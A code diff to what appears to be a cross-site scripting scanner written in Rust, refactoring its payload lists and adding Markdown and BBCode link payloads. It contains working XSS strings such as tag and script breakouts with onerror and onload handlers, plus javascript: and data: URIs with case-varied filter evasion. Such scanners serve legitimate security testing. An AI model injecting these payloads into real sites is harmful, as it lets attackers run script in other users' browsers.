@@ -91,12 +91,12 @@ pub(super) fn chosen(
     if has(Place::Script) || has(Place::Data) {
         push(
             Family::ScriptEnd,
-            vec![
-                format!("</script><img src=x onerror={M}(1)>"),
-                format!("</script ><script>{M}(1)</script>"),
-                format!("</SCRIPT/><svg onload={M}(1)>"),
-                format!("</style><img src=x onerror={M}(1)>"),
-            ],
+            SCRIPT_ENDS
+                .iter()
+                .map(|end| {
+                    format!("{end}{M}(1){}", if end.ends_with("<script>") { "</script>" } else { ">" })
+                })
+                .collect(),
         );
     }
     if is_page && !is_text {
@@ -130,6 +130,36 @@ pub(super) fn chosen(
     all
 }
 
+/// What ends a script, or a style sheet, up to the word that runs.
+pub(super) const SCRIPT_ENDS: [&str; 4] = [
+    "</script><img src=x onerror=",
+    "</script ><script>",
+    "</SCRIPT/><svg onload=",
+    "</style><img src=x onerror=",
+];
+
+/// What ends an attribute and its tag, up to the word that runs.
+pub(super) const TAG_END: &str = "\"'><img src=x onerror=";
+
+/// A link in the two notations that programs make of text, to see whether one is made of it.
+pub(super) fn link() -> Payload {
+    Payload::new(Family::Plain, format!("[{M}](/{M}) [url=/{M}]{M}[/url]"))
+}
+
+/// Links in those notations that run, or leave their attribute.
+pub(super) fn links() -> Vec<Payload> {
+    let both = |family: Family, address: String| {
+        Payload::new(family, format!("[x]({address}) [url={address}]x[/url]"))
+    };
+    vec![
+        both(Family::Uri, format!("javascript:{M}%281%29")),
+        both(Family::Uri, format!("JaVaScRiPt:{M}%281%29")),
+        both(Family::Uri, format!("data:text/html,%3Cscript%3E{M}%281%29%3C/script%3E")),
+        both(Family::Attribute, format!("/\"{M}=\"")),
+        both(Family::Attribute, format!("/'{M}='")),
+    ]
+}
+
 fn attributes(count: usize) -> Vec<String> {
     let mut values =
         vec![format!("{M}1\" {M}=\""), format!("{M}1' {M}='"), format!("{M}1 {M}=1"), format!("{M}1\t{M}=1")];
@@ -141,7 +171,7 @@ fn attributes(count: usize) -> Vec<String> {
 fn basic(count: usize) -> Vec<String> {
     let mut list = vec![
         format!("<script>{M}(1)</script>"),
-        format!("\"'><img src=x onerror={M}(1)>"),
+        format!("{TAG_END}{M}(1)>"),
         format!("--></title></textarea></style></noscript></select></template><svg onload={M}(1)>"),
         format!("--!><img src=x onerror={M}(1)>"),
         format!("<a href=\"javascript:{M}(1)\">x</a>"),
